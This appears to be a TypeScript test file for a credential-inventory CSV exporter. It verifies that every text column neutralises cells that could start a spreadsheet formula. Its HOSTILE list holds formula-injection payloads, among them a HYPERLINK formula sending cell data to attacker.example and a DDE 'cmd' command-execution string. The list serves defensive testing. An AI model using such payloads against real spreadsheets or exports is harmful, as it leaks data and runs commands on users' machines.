import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { CSV_COLUMNS } from "../src/http/handlers/inventory.js";
import { toCsv } from "../src/inventory/csv.js";
import type { InventoryItem } from "../src/inventory/managed-credential.js";

/** RFC 4180 reader for one CSV document: rows of unquoted cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text.charAt(i);
    const next = text.charAt(i + 1);
    if (quoted) {
      if (c === '"' && next === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\r" && next === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += c;
  }
  return rows;
}

const HOSTILE = [
  '=HYPERLINK("https://attacker.example/?x="&A1,"open")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\uFF1D1+1", // full-width =
  "\uFF0B1",
  "\uFF0D1",
  "\uFF20SUM(1)",
];

/** An item whose every text field, whatever the column reads, is the hostile text. */
function hostileItem(text: string): InventoryItem {
  return {
    name: text,
    kind: text as InventoryItem["kind"],
    owner: text,
    organization: text,
    scopes: [text, "vso.code"],
    expiresOn: text,
    daysLeft: -3,
    status: text as InventoryItem["status"],
    rotation: text as InventoryItem["rotation"],
    rotatedOn: text,
    version: text,
    enabled: true,
    createdOn: text,
    updatedOn: text,
    contentType: text,
    warnings: [],
  };
}

describe("CSV export", () => {
  test("every text cell that could start a formula is neutralised, in every column", () => {
    for (const text of HOSTILE) {
      const [header, row, ...rest] = parseCsv(toCsv(CSV_COLUMNS, [hostileItem(text)]));
      assert.equal(rest.length, 0);
      assert.equal(header?.length, CSV_COLUMNS.length);
      CSV_COLUMNS.forEach((column, i) => {
        const cell = row?.[i] ?? "";
        if (column.header === "daysLeft") assert.equal(cell, "-3", "numbers are ours and stay numbers");
        else if (column.header === "enabled") assert.equal(cell, "true");
        else assert.equal(cell, `'${column.header === "scopes" ? `${text} vso.code` : text}`, column.header);
      });
    }
  });

  test("ordinary text and quoting are untouched", () => {
    const csv = toCsv([{ header: "owner", value: (r: { o: string }) => r.o }], [{ o: 'Team "Build", x' }]);
    assert.equal(csv, 'owner\r\n"Team ""Build"", x"\r\n');
  });
});
